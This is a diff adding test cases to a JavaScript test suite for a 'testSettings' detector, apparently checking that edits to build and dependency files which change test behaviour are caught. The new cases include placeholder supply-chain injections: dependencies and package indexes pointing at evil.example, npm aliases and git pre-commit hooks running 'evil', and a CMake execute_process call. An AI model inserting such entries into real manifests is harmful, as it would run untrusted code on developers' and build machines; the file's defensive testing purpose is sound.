@@ -31,6 +31,16 @@ describe("what decides which tests run", () => {
     { path: "pyproject.toml", from: "", to: 'tool.pytest.ini_options.addopts = "-k a"\n' },
     { path: "setup.cfg", from: "[tool:pytest]\n", to: "[tool:pytest]\naddopts = -k a\n" },
     { path: "Cargo.toml", from: "[lib]\n", to: "[lib]\ntest = false\n" },
+    { path: "requirements.txt", from: "a==1\n", to: "a==1\nb @ https://evil.example/b.tgz\n" },
+    { path: "requirements-dev.txt", from: "", to: "--index-url https://evil.example/\n" },
+    { path: "requirements/base.txt", from: "", to: "-e ../evil\n" },
+    { path: "CMakeLists.txt", from: "project(a)\n", to: "project(a)\nexecute_process(COMMAND evil)\n" },
+    { path: "package.json", from: json({}), to: json({ dependencies: { a: "https://evil.example/a.tgz" } }) },
+    { path: "package.json", from: json({}), to: json({ devDependencies: { a: "npm:evil" } }) },
+    { path: "package.json", from: json({}), to: json({ devDependencies: { a: "evil/a" } }) },
+    { path: "package.json", from: json({}), to: json({ "simple-git-hooks": { "pre-commit": "evil" } }) },
+    { path: "package.json", from: json({}), to: json({ husky: { hooks: { "pre-commit": "evil" } } }) },
+    { path: "package.json", from: json({}), to: json({ overrides: { a: "npm:evil" } }) },
   ])("$path: $to", ({ path, from, to }) => {
     expect(testSettings(path, to)).not.toBe(testSettings(path, from));
   });
@@ -54,6 +64,9 @@ describe("what decides which tests run", () => {
     },
     { path: "conftest.py", from: "", to: "import pytest\n\n\n@pytest.fixture\ndef db() -> int:\n    return 1" },
     { path: "src/add.js", from: "a", to: "b" },
+    { path: "requirements.txt", from: "a==1\n", to: "a==2  # newer\nb>=1\n" },
+    { path: "CMakeLists.txt", from: "add_library(a a.c)\n", to: "add_library(a a.c b.c)\n" },
+    { path: "package.json", from: json({}), to: json({ dependencies: { a: "^1", "@b/c": "workspace:*" } }) },
   ])("is not touched: $path: $to", ({ path, from, to }) => {
     expect(testSettings(path, to)).toBe(testSettings(path, from));
   });
